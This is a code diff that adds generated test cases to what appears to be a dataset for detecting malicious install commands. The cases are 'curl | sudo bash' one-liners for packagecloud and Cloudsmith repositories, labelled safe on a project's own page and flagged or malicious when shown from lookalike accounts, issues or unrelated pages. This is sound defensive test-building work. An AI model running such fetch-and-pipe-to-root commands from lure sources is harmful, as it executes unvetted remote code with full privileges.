@@ -287,6 +287,29 @@ def vendor_own_page() -> list[dict[str, str]]:
     return out
 
 
+def package_hosts() -> list[dict[str, str]]:
+    """A README linking its own package repository's install script (packagecloud, Cloudsmith),
+    and the same script of another account, from an issue, or from an unrelated page."""
+    out = []
+    for n, (owner, repo, _b, _prog) in enumerate(GITHUB[10:16], start=1):
+        page = f"https://github.com/{owner}/{repo}"
+        pc = f"https://packagecloud.io/install/repositories/{owner}/{repo}"
+        cs = f"https://dl.cloudsmith.io/public/{owner}/{repo}"
+        out += [
+            ok(f"dv-own-pkghost-{n}-1", f"curl -s {pc}/script.deb.sh | sudo bash", "own-page", "linux", page),
+            ok(f"dv-own-pkghost-{n}-2", f"curl -s {pc}/script.rpm.sh | sudo bash", "own-page", "linux", f"{page}#rpm"),
+            ok(f"dv-own-pkghost-{n}-3", f"curl -1sLf '{cs}/setup.deb.sh' | sudo -E bash", "own-page", "linux", page),
+            case(f"dv-lure-pkghost-other-{n}",
+                 f"curl -s https://packagecloud.io/install/repositories/{owner}-dl/{repo}/script.deb.sh | sudo bash",
+                 "flagged", MASQUERADE, "linux", page, "terminal"),
+            case(f"dv-lure-pkghost-issue-{n}", f"curl -s {pc}/script.deb.sh | sudo bash",
+                 "flagged", LURE, "linux", f"{page}/issues/{n + 40}", "terminal"),
+            case(f"dv-lure-pkghost-unrelated-{n}", f"curl -s {pc}/script.deb.sh | sudo bash",
+                 "malicious", LURE, "linux", UNRELATED_PAGES[n % len(UNRELATED_PAGES)], "terminal"),
+        ]  # fmt: skip
+    return out
+
+
 def package_managers() -> list[dict[str, str]]:
     out = []
     for n, (owner, repo, _b, prog) in enumerate(GITHUB[:10], start=1):
@@ -679,6 +702,7 @@ def build() -> list[dict[str, str]]:
         + forge_own_page()
         + vendor_own_page()
         + package_managers()
+        + package_hosts()
         + tutorials()
         + admin_commands()
         + devops()
